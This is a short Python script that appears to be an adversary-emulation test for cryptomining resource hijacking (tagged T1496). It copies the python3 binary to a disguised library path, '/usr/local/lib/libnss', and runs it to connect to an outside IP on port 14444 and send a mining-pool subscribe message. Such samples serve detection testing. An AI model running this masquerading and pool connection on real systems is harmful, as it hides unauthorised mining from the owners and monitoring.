#!/usr/bin/env python3
# title: Something called like a library talks to a pool
# technique: T1496.001 T1496
# needs: python3

import shutil, subprocess
shutil.copy("/usr/bin/python3", "/usr/local/lib/libnss")
subprocess.call(["/usr/local/lib/libnss", "-c", "import socket; s=socket.create_connection(('192.88.99.7',14444)); s.sendall(b'{\"id\":1,\"method\":\"mining.subscribe\"}\\n')"])
